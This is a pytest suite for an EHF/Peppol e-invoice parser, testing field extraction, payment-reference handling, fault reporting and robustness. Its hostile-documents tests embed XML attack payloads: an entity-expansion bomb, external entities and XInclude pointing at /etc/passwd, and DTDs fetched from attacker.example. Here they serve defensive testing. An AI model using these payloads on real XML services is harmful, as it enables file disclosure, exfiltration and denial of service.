"""E-invoices: what the hub takes from an EHF or Peppol document, and what it refuses."""

import base64
from dataclasses import asdict
from datetime import date
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from fordring.domain.errors import InvalidInput
from fordring.domain.money import Money
from fordring.domain.references import KidFormat, Reference
from fordring.formats.ehf import parse_einvoice
from fordring.formats.einvoice import BillingReference, Contact, Identifier, PayeeAccount

REAL = Path(__file__).parents[4] / "shared" / "data" / "einvoice"

INVOICE = """<?xml version="1.0" encoding="UTF-8"?>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"
  xmlns:cac="urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2"
  xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">
  <cbc:CustomizationID>urn:cen.eu:en16931:2017#compliant#urn:fdc:peppol.eu:2017:poacc:billing:3.0</cbc:CustomizationID>
  <cbc:ProfileID>urn:fdc:peppol.eu:2017:poacc:billing:01:1.0</cbc:ProfileID>
  <cbc:ID>F-1001</cbc:ID>
  <cbc:IssueDate>2026-01-05</cbc:IssueDate>
  <cbc:DueDate>2026-01-19</cbc:DueDate>
  <cbc:InvoiceTypeCode>380</cbc:InvoiceTypeCode>
  <cbc:Note>Takk for handelen</cbc:Note>
  <cbc:TaxPointDate>2026-01-03</cbc:TaxPointDate>
  <cbc:DocumentCurrencyCode>NOK</cbc:DocumentCurrencyCode>
  <cbc:BuyerReference>Avd. 7</cbc:BuyerReference>
  <cac:OrderReference><cbc:ID>PO-9</cbc:ID></cac:OrderReference>
  <cac:AccountingSupplierParty><cac:Party>
    <cbc:EndpointID schemeID="0192">988077917</cbc:EndpointID>
    <cac:PartyName><cbc:Name>Fjordkaffe</cbc:Name></cac:PartyName>
    <cac:PostalAddress>
      <cbc:StreetName>Kaigata 1</cbc:StreetName>
      <cbc:CityName>Bergen</cbc:CityName>
      <cbc:PostalZone>5003</cbc:PostalZone>
      <cac:Country><cbc:IdentificationCode>NO</cbc:IdentificationCode></cac:Country>
    </cac:PostalAddress>
    <cac:PartyTaxScheme>
      <cbc:CompanyID>Foretaksregisteret</cbc:CompanyID><cac:TaxScheme><cbc:ID>TAX</cbc:ID></cac:TaxScheme>
    </cac:PartyTaxScheme>
    <cac:PartyTaxScheme>
      <cbc:CompanyID>NO988077917MVA</cbc:CompanyID><cac:TaxScheme><cbc:ID>VAT</cbc:ID></cac:TaxScheme>
    </cac:PartyTaxScheme>
    <cac:PartyLegalEntity>
      <cbc:RegistrationName>Fjordkaffe AS</cbc:RegistrationName>
      <cbc:CompanyID schemeID="0192">988077917</cbc:CompanyID>
    </cac:PartyLegalEntity>
  </cac:Party></cac:AccountingSupplierParty>
  <cac:AccountingCustomerParty><cac:Party>
    <cbc:EndpointID schemeID="0192">123456785</cbc:EndpointID>
    <cac:PostalAddress>
      <cbc:StreetName>Storgata 2</cbc:StreetName>
      <cbc:AdditionalStreetName>3. etasje</cbc:AdditionalStreetName>
      <cbc:CityName>Oslo</cbc:CityName>
      <cbc:PostalZone>0155</cbc:PostalZone>
      <cbc:CountrySubentity>Oslo</cbc:CountrySubentity>
      <cac:AddressLine><cbc:Line>Bakgården</cbc:Line></cac:AddressLine>
      <cac:Country><cbc:IdentificationCode>NO</cbc:IdentificationCode></cac:Country>
    </cac:PostalAddress>
    <cac:PartyLegalEntity><cbc:RegistrationName>Kunde Å ÆØ AS</cbc:RegistrationName></cac:PartyLegalEntity>
    <cac:Contact>
      <cbc:Name>Kari Kunde</cbc:Name><cbc:Telephone>22000000</cbc:Telephone>
      <cbc:ElectronicMail>kari@kunde.example</cbc:ElectronicMail>
    </cac:Contact>
  </cac:Party></cac:AccountingCustomerParty>
  <cac:Delivery><cbc:ActualDeliveryDate>2026-01-02</cbc:ActualDeliveryDate></cac:Delivery>
  <cac:PaymentMeans>
    <cbc:PaymentMeansCode>30</cbc:PaymentMeansCode>
    <cbc:PaymentID>0010017</cbc:PaymentID>
    <cac:PayeeFinancialAccount>
      <cbc:ID>NO93 8601 1117 947</cbc:ID>
      <cac:FinancialInstitutionBranch><cbc:ID>DNBANOKK</cbc:ID></cac:FinancialInstitutionBranch>
    </cac:PayeeFinancialAccount>
  </cac:PaymentMeans>
  <cac:PaymentTerms><cbc:Note>14 dager,
     deretter forsinkelsesrente</cbc:Note></cac:PaymentTerms>
  <cac:LegalMonetaryTotal>
    <cbc:TaxInclusiveAmount currencyID="NOK">1250</cbc:TaxInclusiveAmount>
    <cbc:PrepaidAmount currencyID="NOK">250.5</cbc:PrepaidAmount>
    <cbc:PayableRoundingAmount currencyID="NOK">0.50</cbc:PayableRoundingAmount>
    <cbc:PayableAmount currencyID="NOK">1000.00</cbc:PayableAmount>
  </cac:LegalMonetaryTotal>
  <cac:InvoiceLine><cbc:ID>1</cbc:ID></cac:InvoiceLine>
</Invoice>
"""

CREDIT_NOTE = (
    INVOICE.replace("<Invoice ", "<CreditNote ")
    .replace("</Invoice>", "</CreditNote>")
    .replace("xsd:Invoice-2", "xsd:CreditNote-2")
    .replace("<cbc:DueDate>2026-01-19</cbc:DueDate>", "")
    .replace(
        "<cbc:InvoiceTypeCode>380</cbc:InvoiceTypeCode>",
        "<cbc:CreditNoteTypeCode>381</cbc:CreditNoteTypeCode>",
    )
    .replace("InvoiceLine", "CreditNoteLine")
    .replace("<cbc:ID>F-1001</cbc:ID>", "<cbc:ID>K-17</cbc:ID>")
    .replace(
        "<cac:AccountingSupplierParty>",
        """<cac:BillingReference><cac:InvoiceDocumentReference>
             <cbc:ID>F-1001</cbc:ID><cbc:IssueDate>2026-01-05</cbc:IssueDate>
           </cac:InvoiceDocumentReference></cac:BillingReference>
           <cac:BillingReference><cac:InvoiceDocumentReference>
             <cbc:ID>F-1002</cbc:ID>
           </cac:InvoiceDocumentReference></cac:BillingReference>
           <cac:AccountingSupplierParty>""",
    )
)


def invoice(*changes: tuple[str, str]):
    """Parse the invoice with some of its text replaced."""
    return parse_einvoice(changed(INVOICE, *changes))


def changed(document: str, *changes: tuple[str, str]) -> bytes:
    for old, new in changes:
        assert old in document
        document = document.replace(old, new)
    return document.encode()


def faults(content: bytes) -> list[tuple[str, str]]:
    with pytest.raises(InvalidInput) as caught:
        parse_einvoice(content)
    return [(fault.pointer, fault.code) for fault in caught.value.faults]


def invoice_faults(*changes: tuple[str, str]) -> list[tuple[str, str]]:
    return faults(changed(INVOICE, *changes))


def warnings(einvoice) -> list[tuple[str, str]]:
    return [(warning.pointer, warning.code) for warning in einvoice.warnings]


class TestWhatIsRead:
    def test_the_claim(self):
        read = invoice()
        assert read.kind == "invoice"
        assert read.type_code == "380"
        assert read.document_number == "F-1001"
        assert (read.issue_date, read.due_date) == (date(2026, 1, 5), date(2026, 1, 19))
        assert read.payable == Money(100000, "NOK")
        assert read.tax_inclusive == Money(125000, "NOK")
        assert read.prepaid == Money(25050, "NOK")
        assert read.reference == Reference("kid", "0010017")
        assert read.payment_reference == "0010017"
        assert read.payee_account == PayeeAccount("iban", "NO9386011117947", "DNBANOKK")
        assert read.warnings == ()

    def test_the_parties(self):
        read = invoice()
        assert read.supplier.name == "Fjordkaffe AS"
        assert read.supplier.trading_name == "Fjordkaffe"
        assert read.supplier.organisation_number == Identifier("988077917", "0192")
        assert read.supplier.vat_number == "NO988077917MVA"
        assert read.supplier.address.country == "NO"
        assert read.supplier.contact is None
        assert read.customer.name == "Kunde Å ÆØ AS"
        assert read.customer.organisation_number is None
        assert read.customer.endpoint == Identifier("123456785", "0192")
        assert read.customer.address.lines == ("Storgata 2", "3. etasje", "Bakgården")
        assert (read.customer.address.postal_code, read.customer.address.city) == ("0155", "Oslo")
        assert read.customer.contact == Contact("Kari Kunde", "kari@kunde.example", "22000000")

    def test_what_else_helps(self):
        read = invoice()
        assert read.buyer_reference == "Avd. 7"
        assert read.order_reference == "PO-9"
        assert read.tax_point_date == date(2026, 1, 3)
        assert read.delivery_date == date(2026, 1, 2)
        assert read.payment_terms == "14 dager, deretter forsinkelsesrente"
        assert read.note == "Takk for handelen"
        assert read.billing_references == ()

    def test_a_credit_note_names_what_it_corrects_and_has_no_due_date(self):
        read = parse_einvoice(CREDIT_NOTE.encode())
        assert (read.kind, read.type_code, read.document_number) == ("credit_note", "381", "K-17")
        assert read.due_date is None
        assert read.payable == Money(100000, "NOK")
        assert read.billing_references == (
            BillingReference("F-1001", date(2026, 1, 5)),
            BillingReference("F-1002", None),
        )

    def test_attachments_are_not_kept(self):
        secret = base64.b64encode(b"not for the hub" * 100).decode()
        attached = invoice(
            (
                "<cac:AccountingSupplierParty>",
                f"""<cac:AdditionalDocumentReference><cbc:ID>1</cbc:ID><cac:Attachment>
                <cbc:EmbeddedDocumentBinaryObject mimeCode="application/pdf" filename="a.pdf">{secret}
                </cbc:EmbeddedDocumentBinaryObject></cac:Attachment></cac:AdditionalDocumentReference>
                <cac:AccountingSupplierParty>""",
            )
        )
        assert attached == invoice()
        assert secret[:20] not in str(asdict(attached))

    def test_prefixes_do_not_matter(self):
        other = INVOICE.replace("cbc:", "b:").replace("xmlns:cbc", "xmlns:b").replace("cac:", "a:")
        assert parse_einvoice(other.replace("xmlns:cac", "xmlns:a").encode()) == invoice()

    @pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "iso-8859-1"])
    def test_encodings(self, encoding):
        declared = INVOICE.replace('encoding="UTF-8"', f'encoding="{encoding.removesuffix("-sig")}"')
        assert parse_einvoice(declared.encode(encoding)) == invoice()

    @pytest.mark.parametrize("amount", ["1000", "1000.0", "01000.00", "+1000.00", "1000."])
    def test_amounts_as_xml_schema_allows_them(self, amount):
        assert invoice((">1000.00<", f">{amount}<")).payable == Money(100000, "NOK")

    def test_a_comment_inside_a_value_is_no_part_of_it(self):
        assert invoice((">1000.00<", ">1000<!-- 1 -->.00<")).payable == Money(100000, "NOK")

    def test_an_invoice_of_nothing_is_read(self):
        assert invoice((">1000.00<", ">0<")).payable == Money(0, "NOK")


class TestPaymentReferences:
    def test_what_is_no_reference_is_kept_as_free_text_with_a_warning(self):
        read = invoice(("0010017", "Faktura 1001"))
        assert read.reference == Reference("free_text", "Faktura 1001")
        assert read.payment_reference == "Faktura 1001"
        assert warnings(read) == [("/Invoice/PaymentMeans/PaymentID", "payment_reference_is_free_text")]

    def test_the_creditors_formats_decide_what_a_kid_is(self):
        with_format = parse_einvoice(INVOICE.encode(), kid_formats=[KidFormat(7, "mod10")])
        assert with_format.reference == Reference("kid", "0010017")
        shorter = parse_einvoice(INVOICE.encode(), kid_formats=[KidFormat(6, "mod10")])
        assert shorter.reference == Reference("free_text", "0010017")

    def test_the_suppliers_country_decides_what_digits_are(self):
        finnish = (("<cbc:IdentificationCode>NO", "<cbc:IdentificationCode>FI"), ("0010017", "1234561"))
        assert invoice(*finnish).reference == Reference("viitenumero", "1234561")

    def test_rf_says_itself_what_it_is(self):
        read = invoice(("0010017", "RF34 1234 561"))
        assert read.reference == Reference("rf", "RF341234561")
        assert read.payment_reference == "RF34 1234 561"

    def test_an_invoice_without_a_reference_is_taken_with_a_warning(self):
        read = invoice(("<cbc:PaymentID>0010017</cbc:PaymentID>", ""))
        assert read.reference is None
        assert warnings(read) == [("/Invoice/PaymentMeans/PaymentID", "no_payment_reference")]

    def test_several_ways_to_pay(self):
        way = "<cac:PaymentMeans><cbc:PaymentID>{}</cbc:PaymentID></cac:PaymentMeans><cac:PaymentTerms>"
        same = invoice(("<cac:PaymentTerms>", way.format("0010017")))
        assert same.warnings == ()
        other = invoice(("<cac:PaymentTerms>", way.format("12344")))
        assert other.reference == Reference("kid", "0010017")
        assert warnings(other) == [("/Invoice/PaymentMeans[2]/PaymentID", "several_payment_references")]

    @pytest.mark.parametrize(
        ("written", "account"),
        [
            ("86011117947", PayeeAccount("bban", "86011117947", "DNBANOKK")),
            ("8601.11.17947", PayeeAccount("bban", "86011117947", "DNBANOKK")),
            ("no9386011117947", PayeeAccount("iban", "NO9386011117947", "DNBANOKK")),
            ("86011117948", PayeeAccount("other", "86011117948", "DNBANOKK")),
            ("NO9486011117947", PayeeAccount("other", "NO9486011117947", "DNBANOKK")),
        ],
    )
    def test_accounts(self, written, account):
        read = invoice(("NO93 8601 1117 947", written))
        assert read.payee_account == account
        assert ("account_not_recognised" in [w.code for w in read.warnings]) == (account.kind == "other")


def test_a_receivable_that_was_sold_before_is_told():
    payee = """<cac:PayeeParty><cac:PartyName><cbc:Name>Kjøper Finans AS</cbc:Name></cac:PartyName>
      <cac:PartyLegalEntity><cbc:CompanyID>999999999</cbc:CompanyID></cac:PartyLegalEntity></cac:PayeeParty>"""
    read = invoice(("<cac:Delivery>", f"{payee}<cac:Delivery>"))
    assert read.payee is not None
    assert read.payee.name == "Kjøper Finans AS"
    assert warnings(read) == [("/Invoice/PayeeParty", "payee_is_not_supplier")]


def test_totals_that_disagree_and_a_due_date_before_the_issue_date_are_told():
    read = invoice((">250.5<", ">250<"), ("2026-01-19", "2026-01-04"))
    assert read.payable == Money(100000, "NOK")
    assert warnings(read) == [
        ("/Invoice/DueDate", "due_before_issue"),
        ("/Invoice/LegalMonetaryTotal/PayableAmount", "totals_disagree"),
    ]


class TestFaults:
    @pytest.mark.parametrize(
        ("old", "new", "pointer", "code"),
        [
            ("<cbc:ID>F-1001</cbc:ID>", "", "/Invoice/ID", "missing"),
            ("F-1001", " ", "/Invoice/ID", "missing"),
            ("F-1001", "F" * 65, "/Invoice/ID", "too_long"),
            ("F-1001", "<cbc:x/>1", "/Invoice/ID", "unexpected_element"),
            ("2026-01-05", "2026-02-30", "/Invoice/IssueDate", "malformed_date"),
            ("2026-01-05", "20260105", "/Invoice/IssueDate", "malformed_date"),
            ("2026-01-05", "2026-01-05Z", "/Invoice/IssueDate", "malformed_date"),
            ("2026-01-05", "0001-01-01", "/Invoice/IssueDate", "date_out_of_range"),
            ("<cbc:DueDate>2026-01-19</cbc:DueDate>", "", "/Invoice/DueDate", "missing"),
            ("</cbc:DueDate>", "</cbc:DueDate><cbc:DueDate/>", "/Invoice/DueDate[2]", "duplicate_element"),
            (">380<", ">381<", "/Invoice/InvoiceTypeCode", "wrong_type_code"),
            (">380<", ">invoice<", "/Invoice/InvoiceTypeCode", "wrong_type_code"),
            (">NOK<", "><", "/Invoice/DocumentCurrencyCode", "missing"),
            (
                'PayableAmount currencyID="NOK"',
                'PayableAmount currencyID="SEK"',
                "/Invoice/LegalMonetaryTotal/PayableAmount/@currencyID",
                "wrong_currency",
            ),
            (
                'PayableAmount currencyID="NOK"',
                "PayableAmount",
                "/Invoice/LegalMonetaryTotal/PayableAmount/@currencyID",
                "wrong_currency",
            ),
            (">1000.00<", ">1000.001<", "/Invoice/LegalMonetaryTotal/PayableAmount", "too_many_decimals"),
            (">1000.00<", ">1000.000<", "/Invoice/LegalMonetaryTotal/PayableAmount", "too_many_decimals"),
            (">1000.00<", ">-1000.00<", "/Invoice/LegalMonetaryTotal/PayableAmount", "negative_amount"),
            (">1000.00<", ">1 000,00<", "/Invoice/LegalMonetaryTotal/PayableAmount", "malformed_amount"),
            (">1000.00<", ">1e3<", "/Invoice/LegalMonetaryTotal/PayableAmount", "malformed_amount"),
            (">1000.00<", ">NaN<", "/Invoice/LegalMonetaryTotal/PayableAmount", "malformed_amount"),
            (">1000.00<", f">{'9' * 20}<", "/Invoice/LegalMonetaryTotal/PayableAmount", "amount_too_large"),
            (">1000.00<", "><", "/Invoice/LegalMonetaryTotal/PayableAmount", "missing"),
            (">250.5<", ">x<", "/Invoice/LegalMonetaryTotal/PrepaidAmount", "malformed_amount"),
            ("#compliant#", "#extended#", "/Invoice/CustomizationID", "unsupported_specification"),
            (
                "Kunde Å ÆØ AS",
                "",
                "/Invoice/AccountingCustomerParty/Party/PartyLegalEntity/RegistrationName",
                "missing",
            ),
            (
                'schemeID="0192">123456785',
                f'schemeID="{"0" * 21}">123456785',
                "/Invoice/AccountingCustomerParty/Party/EndpointID/@schemeID",
                "too_long",
            ),
            ("0010017", "1" * 141, "/Invoice/PaymentMeans/PaymentID", "too_long"),
        ],
    )
    def test_each_names_its_element(self, old, new, pointer, code):
        assert invoice_faults((old, new)) == [(pointer, code)]

    def test_all_are_named_at_once(self):
        found = invoice_faults(
            ("F-1001", ""),
            ("2026-01-05", "5 January"),
            ("<cbc:DueDate>2026-01-19</cbc:DueDate>", ""),
            (">1000.00<", ">-1.234<"),
            ("<cbc:IdentificationCode>NO<", "<cbc:IdentificationCode>Norway<"),
            ("Fjordkaffe AS", ""),
        )
        assert sorted(found) == [
            (
                "/Invoice/AccountingCustomerParty/Party/PostalAddress/Country/IdentificationCode",
                "malformed_country",
            ),
            ("/Invoice/AccountingSupplierParty/Party/PartyLegalEntity/RegistrationName", "missing"),
            (
                "/Invoice/AccountingSupplierParty/Party/PostalAddress/Country/IdentificationCode",
                "malformed_country",
            ),
            ("/Invoice/DueDate", "missing"),
            ("/Invoice/ID", "missing"),
            ("/Invoice/IssueDate", "malformed_date"),
            ("/Invoice/LegalMonetaryTotal/PayableAmount", "too_many_decimals"),
        ]

    def test_an_unknown_currency_is_one_fault(self):
        assert invoice_faults(("NOK", "JPY")) == [("/Invoice/DocumentCurrencyCode", "unknown_currency")]

    def test_an_empty_document_names_everything_that_a_claim_needs(self):
        found = faults(b'<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"/>')
        assert found == [
            (f"/Invoice/{path}", "missing")
            for path in (
                "CustomizationID",
                "IssueDate",
                "DueDate",
                "DocumentCurrencyCode",
                "AccountingSupplierParty/Party",
                "LegalMonetaryTotal",
                "InvoiceTypeCode",
                "ID",
                "AccountingCustomerParty/Party",
            )
        ]

    def test_a_party_that_stands_twice_is_named_once(self):
        twice = "</cac:PostalAddress><cac:PostalAddress><cbc:CityName>Oslo</cbc:CityName></cac:PostalAddress>"
        found = invoice_faults(("</cac:PostalAddress>", twice))
        assert found == [
            (f"/Invoice/Accounting{role}Party/Party/PostalAddress[2]", "duplicate_element")
            for role in ("Supplier", "Customer")
        ]

    def test_a_credit_note_with_a_reference_to_nothing(self):
        found = faults(changed(CREDIT_NOTE, ("<cbc:ID>F-1002</cbc:ID>", "")))
        assert found == [("/CreditNote/BillingReference[2]/InvoiceDocumentReference/ID", "missing")]

    def test_more_references_than_anybody_has(self):
        one = "<cac:BillingReference/>"
        found = invoice_faults(("<cac:AccountingSupplierParty>", one * 101 + "<cac:AccountingSupplierParty>"))
        assert found == [("/Invoice/BillingReference", "too_many_elements")]

    def test_a_fault_never_repeats_the_value(self):
        with pytest.raises(InvalidInput) as caught:
            invoice((">1000.00<", ">15108695088x<"), ("2026-01-05", "15108695088"))
        assert "15108695088" not in str([(f.detail, f.pointer) for f in caught.value.faults])


BOMB = """<!DOCTYPE Invoice [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]>"""
EXTERNAL = '<!DOCTYPE Invoice [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
REMOTE = '<!DOCTYPE Invoice SYSTEM "http://attacker.example/invoice.dtd">'
PARAMETER = '<!DOCTYPE Invoice [<!ENTITY % x SYSTEM "http://attacker.example/x"> %x;]>'


class TestHostileDocuments:
    @pytest.mark.parametrize("prologue", [BOMB, EXTERNAL, REMOTE, PARAMETER, "<!DOCTYPE Invoice>"])
    @pytest.mark.parametrize("value", ["F-1001", "&d;", "&x;"])
    def test_document_types_and_entities_are_forbidden(self, prologue, value):
        document = INVOICE.replace("<Invoice ", prologue + "<Invoice ", 1).replace("F-1001", value)
        assert faults(document.encode()) == [("", "xml_forbidden")]

    def test_an_inclusion_is_nothing_special_and_nothing_is_fetched(self):
        include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'
        assert (
            invoice(("<cac:AccountingSupplierParty>", include + "<cac:AccountingSupplierParty>")) == invoice()
        )

    def test_too_large(self):
        assert faults(INVOICE.encode() + b" " * 1_100_000) == [("", "xml_too_large")]
        with pytest.raises(InvalidInput):
            parse_einvoice(INVOICE.encode(), largest_bytes=100)

    def test_too_deep(self):
        deep = "<cbc:Note>" * 100 + "</cbc:Note>" * 100
        assert invoice_faults(("<cbc:Note>Takk for handelen</cbc:Note>", deep)) == [("", "xml_too_deep")]
        inside = f"<cac:InvoiceLine>{deep}"
        assert invoice_faults(("<cac:InvoiceLine>", inside)) == [("", "xml_too_deep")]

    def test_too_many_elements(self):
        assert invoice_faults(("<cac:InvoiceLine>", "<cac:InvoiceLine>" + "<b/>" * 100_000)) == [
            ("", "xml_too_many_elements")
        ]

    @pytest.mark.parametrize(
        "content",
        [
            b"",
            b"not xml",
            b"<Invoice>",
            b"\x00",
            INVOICE.encode()[:-5],
            INVOICE.encode() + b"<x/>",
            b"<a>&b;</a>",
        ],
    )
    def test_not_well_formed(self, content):
        assert faults(content) == [("", "xml_malformed")]

    def test_latin_letters_that_claim_to_be_utf8(self):
        assert faults(INVOICE.encode("iso-8859-1")) == [("", "xml_malformed")]

    @pytest.mark.parametrize("encoding", ["utf-7", "idna", "rot13", "cp037", "base64", "no-such"])
    def test_encodings_that_nobody_needs(self, encoding):
        document = INVOICE.replace('encoding="UTF-8"', f'encoding="{encoding}"')
        assert faults(document.encode()) == [("", "xml_encoding")]

    @pytest.mark.parametrize(
        ("old", "new"),
        [
            ("xsd:Invoice-2", "xsd:Invoice-1"),
            ("xsd:Invoice-2", "xsd:CreditNote-2"),
            ('xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"', ""),
        ],
    )
    def test_another_document(self, old, new):
        assert invoice_faults((old, new)) == [("", "not_an_einvoice")]

    @pytest.mark.parametrize("root", [b"<html/>", b"<Attachment/>", b"<Order xmlns='urn:x'/>"])
    def test_another_root(self, root):
        assert faults(root) == [("", "not_an_einvoice")]

    @settings(max_examples=150, suppress_health_check=[HealthCheck.too_slow], deadline=None)
    @given(
        at=st.integers(0, len(INVOICE.encode()) - 1),
        cut=st.integers(0, 40),
        put=st.binary(max_size=20)
        | st.sampled_from([b"<", b">", b"&amp;", b"<cbc:ID>", b"</cbc:ID>", b"\x85"]),
        credit_note=st.booleans(),
    )
    def test_any_damage_gives_an_invoice_or_its_faults(self, at, cut, put, credit_note):
        content = (CREDIT_NOTE if credit_note else INVOICE).encode()
        try:
            read = parse_einvoice(content[:at] + put + content[at + cut :])
        except InvalidInput as refused:
            assert refused.faults
        else:
            assert read.document_number
            assert read.payable.minor >= 0

    @settings(max_examples=150, deadline=None)
    @given(
        field=st.sampled_from(
            ["F-1001", "2026-01-05", "1000.00", "0010017", "NO93 8601 1117 947", "Bergen", ">NOK<", "380"]
        ),
        text=st.text(
            st.characters(exclude_categories=["Cs", "Cc"], exclude_characters="<>&\ufffe\uffff"), max_size=30
        ),
    )
    def test_any_value_gives_an_invoice_or_its_faults(self, field, text):
        value = f">{text}<" if field.startswith(">") else text
        try:
            read = parse_einvoice(INVOICE.replace(field, value).encode())
        except InvalidInput as refused:
            assert all(fault.pointer.startswith("/Invoice/") for fault in refused.faults)
        else:
            assert read.currency == "NOK"


@pytest.mark.skipif(not REAL.is_dir(), reason="the real documents are not beside the project")
class TestRealDocuments:
    @pytest.mark.parametrize(
        ("name", "kind", "number", "payable", "currency", "reference"),
        [
            ("Allowance-example.xml", "invoice", "Snippet1", "6125.00", "EUR", "Snippet1"),
            ("Norwegian-example-1.xml", "invoice", "TOSL108", "802.00", "NOK", "0003434323213231"),
            ("Vat-category-S.xml", "invoice", "Snippet1", "8550.00", "EUR", "Snippet1"),
            ("base-creditnote-correction.xml", "credit_note", "Snippet1", "1656.25", "EUR", "Snippet1"),
            ("base-example.xml", "invoice", "Snippet1", "1656.25", "EUR", "Snippet1"),
            ("ehf-3-faktura-1.xml", "invoice", "TOSL108", "802.00", "NOK", "0003434323213231"),
        ],
    )
    def test_read(self, name, kind, number, payable, currency, reference):
        read = parse_einvoice((REAL / name).read_bytes())
        assert (read.kind, read.document_number) == (kind, number)
        assert (read.payable.text, read.payable.currency) == (payable, currency)
        assert read.reference == Reference("free_text", reference)
        assert "payment_reference_is_free_text" in [warning.code for warning in read.warnings]
        assert (read.due_date is None) == (kind == "credit_note")

    def test_every_file_is_read(self):
        for path in sorted(REAL.glob("*.xml")):
            assert parse_einvoice(path.read_bytes()).document_number
